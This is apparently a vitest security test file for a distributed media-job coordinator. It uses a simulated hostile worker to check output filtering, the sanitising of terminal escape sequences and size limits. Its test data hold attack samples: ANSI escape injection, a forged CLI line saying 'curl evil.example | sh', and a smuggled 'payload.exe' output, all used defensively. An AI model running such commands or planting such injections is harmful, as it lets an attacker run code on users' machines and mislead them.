/**
 * A worker that does not play by the rules (compromised, or someone else's program given the worker
 * token) publishes only the outputs the plan named, and cannot write escape sequences or forged
 * lines into a client's terminal through its error messages (review SEC).
 */
import { execFileSync } from 'node:child_process';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import * as grpc from '@grpc/grpc-js';
import { afterEach, describe, expect, it } from 'vitest';
import { TesseraClient } from '../../client/client.js';
import { Coordinator } from '../../coordinator/coordinator.js';
import { createLogger } from '../../shared/logger.js';
import { loadTesseraProto } from '../../shared/proto.js';
import { WORKER_FEATURES } from '../../shared/job-kind.js';
import type { Assignment__Output } from '../../shared/proto/generated/tessera/v1/Assignment.js';
import type { CoordinatorMessage__Output } from '../../shared/proto/generated/tessera/v1/CoordinatorMessage.js';
import type { SubtaskResult } from '../../shared/proto/generated/tessera/v1/SubtaskResult.js';
import type { WorkerMessage } from '../../shared/proto/generated/tessera/v1/WorkerMessage.js';
import { sha256 } from '../../shared/streams.js';
import { runCli } from '../helpers/cluster.js';
import { coordinator as handCoordinator, handWorker } from '../helpers/hand-worker.js';
import { sharedOutputTemp } from '../../shared/shared-output.js';

const log = createLogger('test', 'silent', 'json');
const cleanups: (() => Promise<void>)[] = [];
afterEach(async () => {
  for (const c of cleanups.splice(0).reverse()) await c().catch(() => undefined);
});

/** A worker written by hand that registers for `kinds` and answers each assignment with `answer`. */
function hostileWorker(address: string, kinds: string[], answer: (a: Assignment__Output) => SubtaskResult): { stop(): void } {
  const { proto } = loadTesseraProto();
  const stub = new proto.tessera.v1.WorkerService(address, grpc.credentials.createInsecure()) as unknown as grpc.Client & {
    Connect(md: grpc.Metadata): grpc.ClientDuplexStream<WorkerMessage, CoordinatorMessage__Output>;
  };
  const call = stub.Connect(new grpc.Metadata());
  call.on('error', () => undefined);
  const heartbeat = setInterval(() => call.write({ heartbeat: { slots_used: 0, load: 0, rss_bytes: '0', running: [] } }), 300);
  call.on('data', (m: CoordinatorMessage__Output) => {
    for (const a of m.assign ? [m.assign] : (m.assign_batch?.assignments ?? [])) call.write({ result: answer(a) });
  });
  call.write({ register: { name: 'hostile', slots: 1, instance_id: 'hostile-1', capabilities: { kinds, encoders: ['pcm_s16le', 'pcm_s24le', 'pcm_f32le', 'aac', 'flac', 'libmp3lame', 'libopus', 'libx264'], features: [...WORKER_FEATURES], labels: {}, cpu_count: 1, memory_bytes: '0', ffmpeg_version: '', sharp_version: '', libvips_version: '' } } });
  return {
    stop: () => {
      clearInterval(heartbeat);
      call.cancel();
      stub.close();
    },
  };
}

const inline = (name: string, data: Buffer) => ({ name, size: String(data.length), sha256: sha256(data), inline: true, inline_data: data });

async function coordinator(): Promise<{ address: string; dir: string; client: TesseraClient }> {
  const dir = await mkdtemp(path.join(os.tmpdir(), 'tessera-sec-worker-'));
  cleanups.push(() => rm(dir, { recursive: true, force: true }));
  const c = new Coordinator({ listen: '127.0.0.1:0', dataDir: path.join(dir, 'data'), log, http: '' });
  const address = await c.start();
  cleanups.push(() => c.close());
  const client = new TesseraClient({ address, deadlineMs: 10_000 });
  cleanups.push(async () => client.close());
  return { address, dir, client };
}

describe('a hostile worker', () => {
  it('cannot add outputs of its own naming to an audio job (only the names the plan gave are published)', async () => {
    const { address, dir, client } = await coordinator();
    const wav = path.join(dir, 'tone.wav');
    execFileSync('ffmpeg', ['-v', 'error', '-f', 'lavfi', '-i', 'sine=frequency=440:duration=1', '-ar', '8000', '-ac', '1', wav]);
    const w = hostileWorker(address, ['audio'], (a) => {
      const plan = JSON.parse(a.plan_json) as { type: string; files: { output: string }[] };
      const real = Buffer.from('not really audio');
      return {
        subtask_id: a.subtask_id,
        attempt: a.attempt,
        ok: true,
        // The output the plan asked for, and two it did not: one that collides with it on every
        // case-insensitive file system, and an executable for the client to find among its outputs.
        outputs: [...plan.files.map((f) => inline(f.output, real)), inline('TONE.WAV', Buffer.from('other')), inline('payload.exe', Buffer.from('MZ'))],
        item_errors: [],
        result_json: '',
        duration_ms: '1',
      };
    });
    cleanups.push(async () => w.stop());
    const job = await client.submit({ audio: { codec: 'wav' } }, [wav]);
    const events: string[] = [];
    const done = await client.wait(job.id, (e) => events.push(`${e.type} ${e.message}`));
    const names = done.outputs.map((o) => o.name).sort();
    // It was ['TONE.WAV', 'payload.exe', 'tone.wav'], published and downloadable.
    expect(names, events.join('\n')).toEqual(['tone.wav']);
  }, 20_000);

  it("cannot write terminal escape sequences or forged lines into a client's terminal through its error message", async () => {
    const { address, client } = await coordinator();
    const w = hostileWorker(address, ['passthrough'], (a) => ({
      subtask_id: a.subtask_id,
      attempt: a.attempt,
      ok: false,
      error_code: 'INTERNAL',
      // Clears the screen, sets the window title, and forges a line that looks like the CLI's own.
      error_message: 'boom\u001b[2J\u001b]0;pwned\u0007\ntessera: job succeeded, run: curl evil.example | sh',
      retryable: false,
      outputs: [],
      item_errors: [],
      result_json: '',
      duration_ms: '1',
    }));
    cleanups.push(async () => w.stop());
    const job = await client.submit({ passthrough: { subtasks: 1 } }, []);
    const done = await client.wait(job.id);
    expect(done.state).toBe('JOB_STATE_FAILED');
    const r = await runCli(['job', job.id, '--coordinator', address]);
    const printed = r.stdout + r.stderr;
    // The ESC and BEL bytes and the newline reached the terminal as they were.
    expect(printed).not.toMatch(/[\u001b\u0007]/);
    expect(printed).not.toMatch(/^tessera: job succeeded/m);
  }, 30_000);
});

describe('a hostile worker against the limits clients are promised (review S)', () => {
  it("a worker's huge progress messages do not make the job unwatchable for its client", async () => {
    const { address, client } = await handCoordinator(cleanups);
    const big = 'x'.repeat(9 * 1024 * 1024);
    const w = handWorker(address, ['passthrough'], (a, call) => {
      // Two progress reports, each well under the 16 MiB message limit, 600 ms apart (past the 250 ms throttle).
      call.write({ progress: { subtask_id: a.subtask_id, attempt: a.attempt, fraction: 0.3, message: big } });
      setTimeout(() => call.write({ progress: { subtask_id: a.subtask_id, attempt: a.attempt, fraction: 0.6, message: big } }), 600);
      setTimeout(() => call.write({ result: { subtask_id: a.subtask_id, attempt: a.attempt, ok: true, outputs: [], item_errors: [], result_json: '', duration_ms: '1' } }), 1200);
    });
    cleanups.push(async () => w.stop());
    const job = await client.submit({ passthrough: { subtasks: 1 } }, []);
    // Watched to the end (what `tessera submit` and `tessera watch` do: every event).
    let longest = 0;
    const done = await client.wait(job.id, (e) => (longest = Math.max(longest, e.message.length)));
    expect(done.state).toBe('JOB_STATE_SUCCEEDED');
    // Attached afresh after the end: the replay reads the stored events.
    const again = await client.wait(job.id, (e) => (longest = Math.max(longest, e.message.length)));
    expect(again.state).toBe('JOB_STATE_SUCCEEDED');
    // A worker's text is bounded as its error messages are (review S: every WatchJob of the job
    // failed RESOURCE_EXHAUSTED, the batch of the two stored events over 16 MiB).
    expect(longest).toBeLessThanOrEqual(500);
  }, 30_000);

  it('an output sent inline past --max-job-bytes is refused (the subtask failed), as an uploaded one is', async () => {
    const { address, client } = await handCoordinator(cleanups, { maxJobBytes: 1024 * 1024 });
    const tmp = await mkdtemp(path.join(os.tmpdir(), 'tessera-rev-s-in-'));
    cleanups.push(() => rm(tmp, { recursive: true, force: true }));
    const input = path.join(tmp, 'a.bin');
    await writeFile(input, Buffer.alloc(100, 1));
    // 8 MiB "copy" of a 100-byte input, under the 16 MiB message limit, 8x the coordinator's --max-job-bytes.
    const huge = Buffer.alloc(8 * 1024 * 1024, 7);
    const w = handWorker(address, ['passthrough'], (a, call) => {
      call.write({ result: { subtask_id: a.subtask_id, attempt: a.attempt, ok: true, outputs: [{ name: 'a.bin', size: String(huge.length), sha256: sha256(huge), inline: true, inline_data: huge }], item_errors: [], result_json: '', duration_ms: '1' } });
    });
    cleanups.push(async () => w.stop());
    const job = await client.submit({ passthrough: { subtasks: 0 } }, [input]);
    const done = await client.wait(job.id);
    const sizes = done.outputs.map((o) => Number(o.size));
    // Before: SUCCEEDED, its output 8 MiB where the limit is 1 MiB (review S).
    expect(sizes.every((s) => s <= 1024 * 1024), `${done.state} ${JSON.stringify(sizes)}`).toBe(true);
    expect(done.state).not.toBe('JOB_STATE_SUCCEEDED');
    expect(done.errors.map((e) => e.code)).toEqual(['RESOURCE_EXHAUSTED']);
  }, 30_000);

  it("outputs a worker writes in place keep to --max-job-bytes together, not each on its own", async () => {
    const limit = 1024 * 1024;
    const { address, client } = await handCoordinator(cleanups, { maxJobBytes: limit });
    const tmp = await mkdtemp(path.join(os.tmpdir(), 'tessera-rev-s-in-'));
    cleanups.push(() => rm(tmp, { recursive: true, force: true }));
    const input = path.join(tmp, 'a.bin');
    await writeFile(input, Buffer.alloc(100, 1));
    // Three files of 0.9 MiB each: every one under the limit, 2.7 MiB together.
    const part = Buffer.alloc(Math.floor(0.9 * limit), 3);
    let dirGiven = '';
    const w = handWorker(address, ['passthrough'], (a, call) => {
      dirGiven = a.shared_output_dir;
      void (async () => {
        const outputs = [];
        for (const name of ['a.bin', 'b.bin', 'c.bin']) {
          const file = sharedOutputTemp(a.shared_output_dir, a.job_id, a.subtask_id, a.shared_output_token, name);
          await writeFile(file, part, { flag: 'wx' });
          outputs.push({ name, size: String(part.length), sha256: sha256(part), shared_path: file });
        }
        call.write({ result: { subtask_id: a.subtask_id, attempt: a.attempt, ok: true, outputs, item_errors: [], result_json: '', duration_ms: '1' } });
      })();
    });
    cleanups.push(async () => w.stop());
    const job = await client.submit({ passthrough: { subtasks: 0 } }, [input]);
    const done = await client.wait(job.id);
    expect(dirGiven, 'the coordinator offered its spool to write into').not.toBe('');
    // README: "--max-job-bytes also bounds what one subtask attempt's outputs come to together ... (a
    // worker past either is refused, the subtask failed, not retried)".
    expect(done.state).not.toBe('JOB_STATE_SUCCEEDED');
    expect(done.errors.map((e) => e.code)).toEqual(['RESOURCE_EXHAUSTED']);
  }, 30_000);

});
